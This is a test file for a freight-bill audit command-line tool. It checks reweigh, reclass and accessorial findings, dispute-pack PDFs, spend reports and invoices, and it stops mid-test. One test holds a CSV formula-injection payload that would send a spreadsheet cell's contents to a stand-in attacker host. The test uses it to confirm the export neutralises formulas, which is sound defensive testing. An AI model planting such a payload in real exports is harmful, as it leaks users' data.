/**
 * `shipper audit`, `shipper report spend` and `shipper invoice` as users run them (in process),
 * on shipments booked through the engine and bills written as carriers write them: a reweigh, a
 * reclass, an accessorial not ordered, a bill for an unknown PRO and one billed as quoted, in the
 * bill CSV layout and as an X12 210. Results read back with real decoders: csv-parse, pdfjs and
 * ZXing for the dispute packs and invoices.
 */
import { parse } from 'csv-parse/sync';
import { access, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LocalApi } from '../../src/api/local.js';
import type { Shipment } from '../../src/domain/schemas.js';
import { readPdf } from '../bol/pdf-reader.js';
import { tempDir } from '../helpers/cli.js';
import { runInProcess } from '../helpers/inProcess.js';
import { startServe } from '../helpers/serve.js';
import { ATLANTA, CHICAGO, MACHINE_PARTS, SPARE_BELTS, x210 } from '../audit/fixtures.js';

const BOOKED_AT = '2026-11-18T18:00:00.000Z';
const AUDIT_ENV = { SHIPPER_NOW: '2026-12-02T10:00:00Z' };

/** Four shipments of the same freight, Chicago to Atlanta with a liftgate ($626.04 each); the second has no PRO. */
async function bookShipments(storeDir: string): Promise<Shipment[]> {
  const api = new LocalApi({ storeDir, now: () => new Date(BOOKED_AT) });
  const shipments: Shipment[] = [];
  for (const proNumber of ['7204801', null, '7204803', '7204804']) {
    const { data } = await api.createShipment({
      refNumber: `PO-${shipments.length + 1}`,
      pickupAddress: CHICAGO,
      deliveryAddress: ATLANTA,
      accessorials: ['LIFTGATE_DELIVERY'],
      carrier: { name: 'Roadrunner Freight', scac: 'RRFT' },
      proNumber,
      orderComponents: [MACHINE_PARTS, SPARE_BELTS],
    } as never);
    shipments.push(data);
  }
  await api.close();
  return shipments;
}

const CSV_HEADER = 'Invoice Number,PRO Number,BOL Number,SCAC,Bill Date,Billed Weight,Billed Class,Description,NMFC,Pieces,Linehaul,Discount,Fuel,Accessorials,Total';

/** The carrier's bill CSV: one row per billed line, bill-level values on the first row of each bill. */
function billsCsv(shipments: Shipment[]): string {
  return [
    CSV_HEADER,
    // SO-000001 reweighed: line 1 at 1,450 lb, re-rated.
    'I7204801,7204801,,RRFT,2026-12-01,"1,450",92.5,Machine parts,161030,10,"$1,618.57",-1133.00,145.67,LFT=75.00,706.24',
    ',,,,,300,175,Spare belts,,,,,,,',
    // SO-000002 (found by its BOL number) reclassed: line 2 as class 250.
    `I7204802,,${shipments[1]!.bolNumber},RRFT,2026-12-01,1200,92.5,Machine parts,161030,10,1559.82,-1091.87,140.39,LFT=75.00,683.34`,
    ',,,,,300,250,Spare belts,,,,,,,',
    // SO-000003 with a residential delivery nobody ordered; the PRO printed with a dash.
    'I7204803,720-4803,,RRFT,2026-12-01,1200,92.5,Machine parts,161030,10,1412.94,-989.06,127.16,LFT=75.00|RES=95.00,721.04',
    ',,,,,300,175,Spare belts,,,,,,,',
    // A PRO no shipment has.
    'I7209901,9900001,,RRFT,2026-12-01,500,70,Castings,,,300.00,-210.00,27.00,,117.00',
    // SO-000004 billed as quoted.
    'I7204804,7204804,,RRFT,2026-12-01,1200,92.5,Machine parts,161030,10,1412.94,-989.06,127.16,LFT=75.00,626.04',
    ',,,,,300,175,Spare belts,,,,,,,',
  ].join('\r\n');
}

/** The same bills as one X12 210 interchange. */
function bills210(shipments: Shipment[]): string {
  const freight = (weight1: number, class2: string, charge1: number, charge2: number) => [
    'LX*1~',
    'L5*1*MACHINE PARTS*161030*N~',
    `L0*1*${weight1}*FR*${weight1}*G***2*PLT**L~`,
    `L1*1***${charge1}~`,
    'L7*1******92.5~',
    'LX*2~',
    'L5*2*SPARE BELTS~',
    'L0*2*300*FR*300*G***1*PLT**L~',
    `L1*2***${charge2}~`,
    `L7*2******${class2}~`,
  ];
  const charges = (discount: number, fuel: number, extra: string[] = []) => [
    'LX*3~',
    `L1*3***-${discount}****DSC~`,
    'LX*4~',
    `L1*4***${fuel}****FUE~`,
    'LX*5~',
    'L1*5***7500****LFT~',
    ...extra,
  ];
  const bill = (invoice: string, references: string[], body: string[], total: number) => [
    `B3**${invoice}**PP*L*20261201*${total}****RRFT~`,
    'C3*USD~',
    ...references,
    ...body,
    `L3*1500*G***${total}******3*L~`,
  ];
  return x210([
    { control: '0001', segments: bill('I7204801', ['N9*CN*7204801~'], [...freight(1450, '175', 119263, 42594), ...charges(113300, 14567)], 70624) },
    { control: '0002', segments: bill('I7204802', [`N9*BM*${shipments[1]!.bolNumber}~`], [...freight(1200, '250', 98700, 57282), ...charges(109187, 14039)], 68334) },
    {
      control: '0003',
      segments: bill(
        'I7204803',
        ['N9*CN*720-4803~'],
        [...freight(1200, '175', 98700, 42594), ...charges(98906, 12716, ['LX*6~', 'L5*6*RESIDENTIAL DELIVERY~', 'L1*6***9500****RES~'])],
        72104,
      ),
    },
    {
      control: '0004',
      segments: [
        `B3**I7209901*9900001*PP*L*20261201*11700****RRFT~`,
        'LX*1~',
        'L0*1*500*FR*500*G***1*PLT**L~',
        'L1*1***30000~',
        'L7*1******70~',
        'LX*2~',
        'L1*2***-21000****DSC~',
        'LX*3~',
        'L1*3***2700****FUE~',
        'L3*500*G***11700~',
      ],
    },
    { control: '0005', segments: bill('I7204804', ['N9*CN*7204804~'], [...freight(1200, '175', 98700, 42594), ...charges(98906, 12716)], 62604) },
  ]);
}

interface AuditJson {
  bills: Array<{
    billKey: string;
    status: string;
    matchedBy: string | null;
    disputedInCents: number;
    shipment: { orderNumber: string } | null;
    findings: Array<{ code: string; amountInCents: number; message: string }>;
  }>;
  summary: { bills: number; disputed: number; unmatched: number; quotedInCents: number; billedInCents: number; disputedInCents: number };
  saved: boolean;
  disputePacks: Array<{ bill: string; file: string; bytes: number }>;
}

/** Each bill's findings as [code, cents], by invoice number. */
const findingsOf = (json: AuditJson) =>
  Object.fromEntries(json.bills.map((bill) => [bill.billKey.split('|')[1], bill.findings.map((finding) => [finding.code, finding.amountInCents])]));

const EXPECTED = {
  I7204801: [['REWEIGH', 8_020]],
  I7204802: [['RECLASS', 5_730]],
  I7204803: [['ACCESSORIAL', 9_500]],
  I7209901: [['UNMATCHED', 11_700]],
  I7204804: [],
};

let store: { dir: string; cleanup: () => Promise<void> };
let shipments: Shipment[];
let csvFile: string;
let x12File: string;

beforeAll(async () => {
  store = await tempDir('shipper-audit-');
  shipments = await bookShipments(join(store.dir, 'store'));
  csvFile = join(store.dir, 'rrft-bills.csv');
  x12File = join(store.dir, 'rrft-210.edi');
  await writeFile(csvFile, billsCsv(shipments));
  await writeFile(x12File, bills210(shipments));
});
afterAll(() => store.cleanup());

/** A fresh copy of the booked store for a test that saves audits. */
async function storeCopy(name: string): Promise<string> {
  const target = join(store.dir, name);
  const { cp } = await import('node:fs/promises');
  await cp(join(store.dir, 'store'), target, { recursive: true });
  return target;
}

/** A PDF file read back with pdfjs (and ZXing for barcodes). */
const pdfAt = async (file: string, options: { barcodes?: boolean } = {}) => readPdf(new Uint8Array(await readFile(file)), options);

const audit = (storeDir: string, args: string[]) => runInProcess(['--store', storeDir, 'audit', ...args], { env: AUDIT_ENV });

describe('shipper audit', () => {
  it('flags each bill of the CSV with the right amount and exits 6 (--json; a dispute, not an unreadable file)', async () => {
    const dir = await storeCopy('json');
    const { code, stdout, stderr } = await audit(dir, [csvFile, '--json']);
    expect(code).toBe(6);
    const json = JSON.parse(stdout) as AuditJson;
    expect(findingsOf(json)).toEqual(EXPECTED);
    expect(json.bills.map((bill) => [bill.shipment?.orderNumber ?? null, bill.matchedBy])).toEqual([
      ['SO-000001', 'PRO'],
      ['SO-000002', 'BOL'],
      ['SO-000003', 'PRO'],
      [null, null],
      ['SO-000004', 'PRO'],
    ]);
    expect(json.summary).toEqual({
      bills: 5,
      disputed: 4,
      unmatched: 1,
      quotedInCents: 4 * 62_604,
      billedInCents: 70_624 + 68_334 + 72_104 + 11_700 + 62_604,
      disputedInCents: 34_950,
    });
    expect(json.saved).toBe(true);
    expect(stderr).toBe('shipper: 4 of 5 bills disputed: $349.50 at stake\n');
  });

  it('flags the same bills sent as an X12 210 with the same amounts', async () => {
    const { code, stdout } = await audit(await storeCopy('x12'), [x12File, '--json', '--no-save']);
    expect(code).toBe(6);
    expect(findingsOf(JSON.parse(stdout) as AuditJson)).toEqual(EXPECTED);
  });

  it('a 210 whose references no shipment can carry (a short BM, a PRO of 25 characters): UNMATCHED, the others still audited (exit 6)', async () => {
    const odd = join(store.dir, 'odd-references.edi');
    const body = [
      'LX*1~',
      'L0*1*500*FR*500*G***1*PLT**L~',
      'L1*1***30000~',
      'L7*1******70~',
      'LX*2~',
      'L1*2***-21000****DSC~',
      'LX*3~',
      'L1*3***2700****FUE~',
      'L3*500*G***11700~',
    ];
    await writeFile(
      odd,
      x210([
        { control: '0001', segments: ['B3**I8800001**PP*L*20261201*11700****RRFT~', 'N9*BM*12345~', ...body] },
        { control: '0002', segments: ['B3**I8800002**PP*L*20261201*11700****RRFT~', `N9*CN*${'7'.repeat(25)}~`, ...body] },
        { control: '0003', segments: ['B3**I8800003**PP*L*20261201*11700****RRFT~', 'N9*BM*12345~', 'N9*CN*720-4801~', ...body] },
      ]),
    );
    const { code, stdout, stderr } = await audit(join(store.dir, 'store'), [odd, '--json', '--no-save']);
    expect(code).toBe(6);
    expect(stderr).toBe('shipper: 2 of 3 bills disputed: $234.00 at stake\n');
    const json = JSON.parse(stdout) as AuditJson;
    // The third also names a BOL no shipment can have, and is found by its PRO (billed lighter than booked: nothing at stake).
    expect(json.bills.map((bill) => [bill.shipment?.orderNumber ?? null, bill.matchedBy, bill.status])).toEqual([
      [null, null, 'DISPUTED'],
      [null, null, 'DISPUTED'],
      ['SO-000001', 'PRO', 'OK'],
    ]);
    expect(json.bills[0]!.findings[0]!.message).toBe('no shipment has BOL 12345');
    expect(json.bills[1]!.findings[0]!.message).toBe(`no shipment has PRO ${'7'.repeat(25)}`);
  });

  it('prints a table by default: one row per finding, the bill’s figures on its first row, a summary', async () => {
    const { code, stdout } = await audit(await storeCopy('table'), [csvFile, '--no-save']);
    expect(code).toBe(6);
    const rows = stdout
      .split('\n')
      .filter((line) => line.startsWith('│'))
      .map((line) =>
        line
          .split('│')
          .slice(1, -1)
          .map((cell) => cell.trim()),
      );
    expect(rows[0]).toEqual(['Bill', 'PRO', 'Order', 'Quoted', 'Billed', 'Check', 'At stake', 'Detail']);
    expect(rows.slice(1).map((row) => row.slice(0, 7))).toEqual([
      ['I7204801', '7204801', 'SO-000001', '$626.04', '$706.24', 'REWEIGH', '$80.20'],
      ['I7204802', '', 'SO-000002', '$626.04', '$683.34', 'RECLASS', '$57.30'],
      ['I7204803', '720-4803', 'SO-000003', '$626.04', '$721.04', 'ACCESSORIAL', '$95.00'],
      ['I7209901', '9900001', '-', '-', '$117.00', 'UNMATCHED', '$117.00'],
      ['I7204804', '7204804', 'SO-000004', '$626.04', '$626.04', 'OK', ''],
    ]);
    expect(rows[2]![7]).toBe(
      'line 2: class 250 billed, 175 booked (4.5 pcf: 300 lb on 1 x 40x48x60 in); the freight check found no risk on line 2 before booking: the freight as declared was clear of the rules it checks',
    );
    expect(stdout).toContain('5 bills audited: 4 disputed, $349.50 at stake (billed $2,853.66, quoted $2,504.16)');
    // On a terminal of 100 columns the table fits: the detail gives way.
    const narrow = await runInProcess(['--store', await storeCopy('narrow'), 'audit', csvFile, '--no-save'], { env: AUDIT_ENV, columns: 100 });
    const widths = narrow.stdout
      .split('\n')
      .filter((line) => /^[┌│├└]/.test(line))
      .map((line) => [...line].length);
    expect(widths.length).toBeGreaterThan(5);
    expect(Math.max(...widths)).toBeLessThanOrEqual(100);
    expect(narrow.stdout).toContain('REWEIGH');
  });

  it('--csv: one line per finding, read back with csv-parse', async () => {
    const { code, stdout } = await audit(await storeCopy('csv'), [csvFile, '--csv', '--no-save']);
    expect(code).toBe(6);
    const records = parse(stdout, { columns: true }) as Array<Record<string, string>>;
    expect(records.map((record) => [record.invoiceNumber, record.orderNumber, record.check, record.atStake])).toEqual([
      ['I7204801', 'SO-000001', 'REWEIGH', '80.20'],
      ['I7204802', 'SO-000002', 'RECLASS', '57.30'],
      ['I7204803', 'SO-000003', 'ACCESSORIAL', '95.00'],
      ['I7209901', '', 'UNMATCHED', '117.00'],
      ['I7204804', 'SO-000004', 'OK', '0.00'],
    ]);
    expect(records[0]).toMatchObject({ file: csvFile, line: '2', proNumber: '7204801', scac: 'RRFT', matchedBy: 'PRO', quoted: '626.04', billed: '706.24' });
  });

  it("--csv: a value of the carrier's bill that a spreadsheet would run as a formula is written inert (a leading quote, quoted); no cell starts a formula", async () => {
    const hostile = join(store.dir, 'hostile-bills.csv');
    const invoiceNumber = '=HYPERLINK("http://evil.example/?"&A1,"Pay")';
    await writeFile(hostile, [CSV_HEADER, `"${invoiceNumber.replace(/"/g, '""')}",9900002,,RRFT,2026-12-01,500,70,Castings,,,300.00,-210.00,27.00,,117.00`].join('\r\n'));
    const { stdout } = await audit(await storeCopy('csv-formula'), [hostile, '--csv', '--no-save']);
    const [header, row] = stdout.split('\r\n');
    expect(header!.split(',')[2]).toBe('invoiceNumber');
    // No cell of the output starts a formula: every one that would is quoted behind a single quote.
    expect(row).toContain(`"'${invoiceNumber.replace(/"/g, '""')}"`);
    const records = parse(stdout, { columns: true }) as Array<Record<string, string>>;
    expect(records).toHaveLength(1);
    for (const cell of Object.values(records[0]!)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(records[0]!.invoiceNumber).toBe(`'${invoiceNumber}`);
  });

  it('writes one dispute pack per disputed bill: the findings, charges beside the quote, the declared freight, the BOL attached', async () => {
    const dir = await storeCopy('packs');
    const packs = join(store.dir, 'disputes');
    const { code, stdout, stderr } = await audit(dir, [csvFile, '--json', '--dispute-dir', packs]);
    expect(code).toBe(6);
    expect(stderr).toContain(`Wrote 4 dispute packs to ${packs}`);
    expect((await readdir(packs)).sort()).toEqual(['dispute-I7204801.pdf', 'dispute-I7204802.pdf', 'dispute-I7204803.pdf', 'dispute-I7209901.pdf']);
    expect((JSON.parse(stdout) as AuditJson).disputePacks.map((pack) => pack.bill)).toEqual(['I7204801', 'I7204802', 'I7204803', 'I7209901']);

    const reclass = await pdfAt(join(packs, 'dispute-I7204802.pdf'), { barcodes: true });
    const [first, ...bol] = reclass.pages;
    expect(first!.lines[0]).toBe('FREIGHT BILL DISPUTE');
    expect(first!.lines.some((line) => line.startsWith('RECLASS | $57.30 | line 2: class 250 billed, 175 booked (4.5 pcf: 300 lb on 1 x 40x48x60 in)'))).toBe(true);
    // The freight check's evidence for the dispute, on the pack (wrapped in its cell).
    expect(first!.lines.join(' ')).toMatch(/the freight check found no risk on\s+line 2 before\s+booking/);
    expect(first!.lines).toContain('Linehaul | $1,559.82 | $1,412.94 | $146.88');
    expect(first!.lines).toContain('Total | $683.34 | $626.04 | $57.30');
    expect(first!.lines).toContain('2 | Spare belts | 1 | 40x48x60 | 4.5 | 175 | 300 | 250 | 300');
    expect(first!.lines).toContain('1 | Machine parts | 161030 | 2 | 48x40x48 | 11.25 | 92.5 | 1,200 | 92.5 | 1,200');
    expect(bol).toHaveLength(1);
    expect(bol[0]!.text).toContain('BILL OF LADING');
    expect(reclass.barcodes.at(-1)).toContain(`]C1402${shipments[1]!.bolNumber}`);

    const accessorial = (await pdfAt(join(packs, 'dispute-I7204803.pdf'))).pages[0]!;
    expect(accessorial.lines).toContain('RES (not ordered) | $95.00 | $0.00 | $95.00');
    expect(accessorial.lines).toContain('LIFTGATE_DELIVERY (billed as LFT) | $75.00 | $75.00 | $0.00');

    // Packs that exist are kept: refused before anything is saved or written (issue 20, item 21).
    const before = await readFile(join(packs, 'dispute-I7204801.pdf'));
    const kept = await audit(dir, [csvFile, '--dispute-dir', packs]);
    expect(kept.code).toBe(2);
    expect(kept.stderr).toBe(
      `shipper: 4 dispute packs exist (${join(packs, 'dispute-I7204801.pdf')}, ...); nothing was saved or written (--force replaces them, or give another --dispute-dir)\n`,
    );
    expect((await readFile(join(packs, 'dispute-I7204801.pdf'))).equals(before)).toBe(true);

    // -q: only the paths of the packs written, one a line; the exit code says something is disputed.
    const quiet = await audit(dir, [csvFile, '-q', '--no-save', '--force', '--dispute-dir', packs]);
    expect(quiet).toMatchObject({ code: 6, stderr: 'shipper: 4 of 5 bills disputed: $349.50 at stake\n' });
    expect(quiet.stdout.split('\n')).toEqual([...['I7204801', 'I7204802', 'I7204803', 'I7209901'].map((bill) => join(packs, `dispute-${bill}.pdf`)), '']);
    expect((await audit(dir, [csvFile, '-q', '--no-save'])).stdout).toBe('');

    const unmatched = await pdfAt(join(packs, 'dispute-I7209901.pdf'));
    expect(unmatched.pages).toHaveLength(1);
    expect(unmatched.pages[0]!.text).toContain('We have no shipment under this bill');
  });

  it('numbers the pages of a dispute pack as one file: the letter and the BOL attached (issue 39, item 21)', async () => {
    const dir = await storeCopy('pack-pages');
    const packs = join(store.dir, 'disputes-numbered');
    expect((await audit(dir, [csvFile, '--dispute-dir', packs])).code).toBe(6);
    const pack = await pdfAt(join(packs, 'dispute-I7204802.pdf'));
    expect(pack.pages).toHaveLength(2);
    expect(pack.pages[0]!.text).toContain('Page 1 of 2');
    expect(pack.pages[0]!.text).not.toContain('Page 1 of 1');
    // The BOL keeps its own numbering (of the BOL) and carries the pack's in its margin.
    expect(pack.pages[1]!.text).toContain('BILL OF LADING');
    expect(pack.pages[1]!.text).toContain('Dispute pack page 2 of 2: the Bill of Lading, attached');
    // Without a shipment there is nothing attached: one page, 1 of 1.
    const unmatched = await pdfAt(join(packs, 'dispute-I7209901.pdf'));
    expect(unmatched.pages[0]!.text).toContain('Page 1 of 1');
  });

  it('keeps the audited bills in the store: auditing them again finds the same, a second bill for a shipment is a DUPLICATE', async () => {
    const dir = await storeCopy('saved');
    expect((await audit(dir, [csvFile, '--json'])).code).toBe(6);
    const again = JSON.parse((await audit(dir, [csvFile, '--json'])).stdout) as AuditJson;
    expect(findingsOf(again)).toEqual(EXPECTED);
    const second = join(store.dir, 'second-bill.csv');
    await writeFile(second, [CSV_HEADER, 'I7204899,7204804,,RRFT,2026-12-05,1500,92.5,,,,1412.94,-989.06,127.16,LFT=75.00,626.04'].join('\n'));
    const duplicate = JSON.parse((await audit(dir, [second, '--json'])).stdout) as AuditJson;
    expect(duplicate.bills[0]!.findings).toEqual([
      { code: 'DUPLICATE', amountInCents: 62_604, message: 'SO-000004 is already billed by I7204804 (audited 2026-12-02): a second bill for one shipment' },
    ]);
    expect((await readdir(join(dir, 'audited-bills'))).filter((name) => name.endsWith('.json'))).toHaveLength(6);
  });

  it('exits 0 when every bill is as quoted; --no-save writes nothing; a tolerance forgives what is at or below it', async () => {
    const dir = await storeCopy('ok');
    const quoted = join(store.dir, 'as-quoted.csv');
    await writeFile(quoted, [CSV_HEADER, 'I7204804,7204804,,RRFT,2026-12-01,1200,92.5,,,,1412.94,-989.06,127.16,LFT=75.00,626.05', ',,,,,300,175,,,,,,,,'].join('\n'));
    expect(await audit(dir, [quoted, '--no-save', '--tolerance', '0.01'])).toMatchObject({ code: 0, stderr: '' });
    await expect(access(join(dir, 'audited-bills'))).rejects.toThrow();
    const strict = await audit(dir, [quoted, '--no-save']);
    expect(strict.code).toBe(6);
    expect(strict.stdout).toContain('OVERCHARGE │ $0.01');
  });

  it('a bill file it cannot read: every problem with its line and column, nothing audited or saved (exit 1)', async () => {
    const dir = await storeCopy('bad');
    const bad = join(store.dir, 'bad.csv');
    await writeFile(bad, [CSV_HEADER, 'I1,7204801,,RRFT,2026-12-01,heavy,92.5,,,,1412.94,,,,626.04', 'I2,7204804,,RRFT,2026-12-01,1200,93,,,,1412.94,,,,'].join('\n'));
    const { code, stdout, stderr } = await audit(dir, [csvFile, bad]);
    expect(code).toBe(1);
    expect(stdout).toBe('');
    expect(stderr.split('\n').filter(Boolean)).toEqual([
      `shipper: ${bad} line 2, column Billed Weight: billedWeight must be a weight in pounds above 0 and at most 1,000,000 (got "heavy")`,
      `shipper: ${bad} line 3, column Billed Class: "93" is not an NMFC freight class (50 to 500, e.g. 92.5)`,
      `shipper: ${bad} line 3, column Total: total is required (an amount in dollars, e.g. 1412.94) (3 problems in the bills; nothing was audited)`,
    ]);
    await expect(access(join(dir, 'audited-bills'))).rejects.toThrow();
    const json = await audit(dir, [bad, '--json']);
    expect(JSON.parse(json.stdout)).toMatchObject({ status: 400, title: 'Unreadable Bills', violations: [{ field: `${bad} line 2, column Billed Weight` }, {}, {}] });
  });

  it('usage errors exit 2: no such file, a directory, --csv with --json, a bad tolerance, no file', async () => {
    const dir = join(store.dir, 'store');
    expect(await audit(dir, [join(store.dir, 'nope.csv')])).toMatchObject({ code: 2, stderr: `shipper: ${join(store.dir, 'nope.csv')}: no such file\n` });
    expect((await audit(dir, [store.dir])).code).toBe(2);
    expect((await audit(dir, [csvFile, '--csv', '--json'])).stderr).toContain('--csv and --json cannot be combined');
    for (const tolerance of ['abc', '-1', '1000.01', '1.234']) expect((await audit(dir, [csvFile, '--tolerance', tolerance])).code, tolerance).toBe(2);
    expect((await audit(dir, [])).code).toBe(2);
  });

  it('an empty or binary file is refused with exit 1', async () => {
    const empty = join(store.dir, 'empty.csv');
    const binary = join(store.dir, 'binary.csv');
    await writeFile(empty, '');
    await writeFile(binary, Buffer.from([0x50, 0x00, 0x4b]));
    expect(await audit(join(store.dir, 'store'), [empty])).toMatchObject({ code: 1, stderr: expect.stringContaining('is empty') });
    expect(await audit(join(store.dir, 'store'), [binary])).toMatchObject({ code: 1, stderr: expect.stringContaining('not a text file') });
  });
});

describe('shipper audit: what-if runs, absurd amounts, exit codes, narrow terminals (issue 20, items 20 and 21)', () => {
  it('--dry-run saves nothing: report spend still reads the audit saved before', async () => {
    const dir = await storeCopy('what-if');
    expect((await audit(dir, [csvFile])).code).toBe(6);
    const spend = () => runInProcess(['--store', dir, 'report', 'spend', '--json'], { env: AUDIT_ENV }).then((result) => JSON.parse(result.stdout).total.disputedInCents as number);
    expect(await spend()).toBe(34_950);
    const whatIf = await audit(dir, [csvFile, '--tolerance', '100', '--dry-run', '--json']);
    expect(whatIf.code).toBe(6); // the unmatched bill stays disputed
    expect(JSON.parse(whatIf.stdout)).toMatchObject({ saved: false, replaced: [] });
    expect(whatIf.stderr).not.toMatch(/replaced/);
    expect(await spend()).toBe(34_950);
    expect((await audit(dir, [csvFile, '--dry-run', '--dispute-dir', join(dir, 'packs')])).code).toBe(2);
  });

  it('saving over an earlier audit of the same bills says what it replaced', async () => {
    const dir = await storeCopy('replaced');
    const first = await audit(dir, [csvFile]);
    expect(first.stderr).not.toMatch(/replaced/);
    const again = await audit(dir, [csvFile, '--tolerance', '100', '--json']);
    expect(again.stderr).toContain('replaced the saved audits of 5 bills; report spend now reads this audit (--dry-run audits without saving)');
    expect(JSON.parse(again.stdout).replaced).toHaveLength(5);
    const one = join(store.dir, 'one-bill.csv');
    await writeFile(one, [CSV_HEADER, 'I7204804,7204804,,RRFT,2026-12-01,1200,92.5,,,,1412.94,-989.06,127.16,LFT=75.00,626.04', ',,,,,300,175,,,,,,,,'].join('\n'));
    const single = await audit(dir, [one]);
    expect(single.stderr).toMatch(/replaced the saved audit of RRFT\|I7204804 \(2026-12-02T10:00:\d\d\.\d+Z, ok, \$0\.00 at stake\)/);
  });

  it('refuses an absurd amount as a broken file (exit 1, nothing audited), and a bill of $10,000,000 is read (the boundary)', async () => {
    const dir = await storeCopy('absurd');
    const absurd = join(store.dir, 'absurd.csv');
    await writeFile(absurd, [CSV_HEADER, 'I1,7204804,,RRFT,2026-12-01,1200,92.5,,,,1412.94,-989.06,127.16,LFT=75.00,"-10,000,000,000,000.00"'].join('\n'));
    const refused = await audit(dir, [absurd]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('total: -$10,000,000,000,000.00 is beyond any freight bill (amounts are at most $10,000,000 either way); nothing was audited');
    await expect(access(join(dir, 'audited-bills'))).rejects.toThrow();
    const cent = join(store.dir, 'cent-over.csv');
    await writeFile(cent, [CSV_HEADER, 'I2,7204804,,RRFT,2026-12-01,1200,92.5,,,,1412.94,-989.06,127.16,LFT=10000000.01,626.04'].join('\n'));
    expect((await audit(dir, [cent, '--no-save'])).stderr).toContain('LFT: $10,000,000.01 is beyond any freight bill');
    const edge = join(store.dir, 'edge.csv');
    await writeFile(edge, [CSV_HEADER, 'I3,7204804,,RRFT,2026-12-01,1200,92.5,,,,1412.94,-989.06,127.16,LFT=75.00,"10,000,000.00"'].join('\n'));
    const read = await audit(dir, [edge, '--no-save']);
    // Read and audited: a dispute (6), not a broken file (1).
    expect(read.code, read.stderr).toBe(6);
  });

  it('an absurd X12 210 total is refused with its element', async () => {
    const dir = await storeCopy('absurd-210');
    const file = join(store.dir, 'absurd-210.edi');
    await writeFile(file, (await readFile(x12File, 'utf8')).replace('L3*1500*G***70624*', 'L3*1500*G***-100000000000000*'));
    const result = await audit(dir, [file]);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/L305: the bill's total: -\$1,000,000,000,000\.00 is beyond any freight bill/);
  });

  it('at 80 columns the detail is shown whole, under the table, not cut to 20 characters', async () => {
    const narrow = await runInProcess(['--store', await storeCopy('eighty'), 'audit', csvFile, '--no-save'], { env: AUDIT_ENV, columns: 80 });
    expect(narrow.code).toBe(6);
    const lines = narrow.stdout.split('\n');
    expect(Math.max(...lines.map((line) => [...line].length)), narrow.stdout).toBeLessThanOrEqual(80);
    expect(narrow.stdout).not.toContain('…');
    // Each finding's detail whole (a long one wrapped at a word), its bill and check named.
    const text = lines.map((line) => line.trim()).join(' ');
    expect(text).toContain('I7204802 RECLASS: line 2: class 250 billed, 175 booked (4.5 pcf: 300 lb on 1 x 40x48x60 in)');
    // Where it fits (400 columns: the detail carries the freight check's word too) it stays in its column.
    const wide = await runInProcess(['--store', await storeCopy('wide'), 'audit', csvFile, '--no-save'], { env: AUDIT_ENV, columns: 400 });
    expect(wide.stdout).toMatch(/│ line 2: class 250 billed, 175 booked \(4\.5 pcf: 300 lb on 1 x 40x48x60 in\); the freight check found no risk on line 2 [^│\n]*│/);
  });
});

describe('shipper report spend', () => {
  it('reads the shipments and the audited bills: by carrier, by month, as JSON and CSV', async () => {
    const dir = await storeCopy('spend');
    await audit(dir, [csvFile]);
    const run = (args: string[]) => runInProcess(['--store', dir, 'report', 'spend', ...args], { env: AUDIT_ENV });
    const table = await run(['--by', 'carrier']);
    expect(table.code).toBe(0);
    const rows = table.stdout
      .split('\n')
      .filter((line) => line.startsWith('│'))
      .map((line) =>
        line
          .split('│')
          .slice(1, -1)
          .map((cell) => cell.trim()),
      );
    expect(rows).toEqual([
      ['Carrier', 'Shipments', 'Weight (lb)', 'Quoted', 'Bills', 'Billed', 'Disputed'],
      ['Roadrunner Freight (RRFT)', '4', '6,000', '$2,504.16', '4', '$2,736.66', '$232.50'],
      ['(no shipment)', '-', '-', '-', '1', '$117.00', '$117.00'],
      ['Total', '4', '6,000', '$2,504.16', '5', '$2,853.66', '$349.50'],
    ]);
    const json = JSON.parse((await run(['--by', 'month', '--json'])).stdout);
    expect(json).toMatchObject({
      by: 'month',
      since: null,
      until: null,
      rows: [{ group: '2026-11', shipments: 4, quotedInCents: 250_416, billedInCents: 273_666, disputedInCents: 23_250 }, { group: '(no shipment)' }],
      total: { bills: 5 },
    });
    const csv = parse((await run(['--by', 'lane', '--csv'])).stdout, { columns: true }) as Array<Record<string, string>>;
    expect(csv).toEqual([
      // Money to 2 decimals (issue 20, item 21).
      { group: 'Chicago, IL → Atlanta, GA', shipments: '4', poundsWeight: '6000', quoted: '2504.16', bills: '4', billed: '2736.66', disputed: '232.50' },
      { group: '(no shipment)', shipments: '0', poundsWeight: '0', quoted: '0.00', bills: '1', billed: '117.00', disputed: '117.00' },
      { group: 'Total', shipments: '4', poundsWeight: '6000', quoted: '2504.16', bills: '5', billed: '2853.66', disputed: '349.50' },
    ]);
  });

  it('a period: shipments booked in it, edges of --since and --until, a date that is none refused', async () => {
    const dir = join(store.dir, 'store');
    const run = (args: string[]) => runInProcess(['--store', dir, 'report', 'spend', '--json', ...args], { env: AUDIT_ENV });
    expect(JSON.parse((await run(['--since', '2026-11-18', '--until', '2026-11-18'])).stdout).total.shipments).toBe(4);
    expect(JSON.parse((await run(['--since', '2026-11-19'])).stdout).total.shipments).toBe(0);
    expect(JSON.parse((await run(['--until', '2026-11-17'])).stdout).total.shipments).toBe(0);
    expect((await run(['--since', 'last week'])).code).toBe(2);
    expect((await runInProcess(['--store', dir, 'report', 'spend', '--by', 'week'])).code).toBe(2);
    expect((await runInProcess(['--store', join(store.dir, 'empty-store'), 'report', 'spend'])).stdout).toBe('No shipments or audited bills in this period.\n');
  });
});

describe('shipper invoice', () => {
  it('prints the invoice: lines adding up to the booked price', async () => {
    const { code, stdout } = await runInProcess(['--store', join(store.dir, 'store'), 'invoice', shipments[0]!.id]);
    expect(code).toBe(0);
    expect(stdout).toContain('Invoice INV-000001  SO-000001  dated Thu 2026-11-19');
    expect(stdout).toContain('Bill to      Acme Machine Co, 100 N State St, Chicago, IL 60601 (prepaid)');
    const rows = stdout
      .split('\n')
      .filter((line) => line.startsWith('│'))
      .map((line) =>
        line
          .split('│')
          .slice(1, -1)
          .map((cell) => cell.trim()),
      );
    expect(rows.map((row) => row.at(-1))).toEqual(['Amount', '$987.00', '$425.94', '-$989.06', '$127.16', '$75.00', '$626.04']);
  });

  it('a total of pieces only when a line gives its pieces', async () => {
    const dir = join(store.dir, 'no-pieces');
    const api = new LocalApi({ storeDir: dir, now: () => new Date(BOOKED_AT) });
    const { data } = await api.createShipment({ pickupAddress: CHICAGO, deliveryAddress: ATLANTA, orderComponents: [SPARE_BELTS] } as never);
    await api.close();
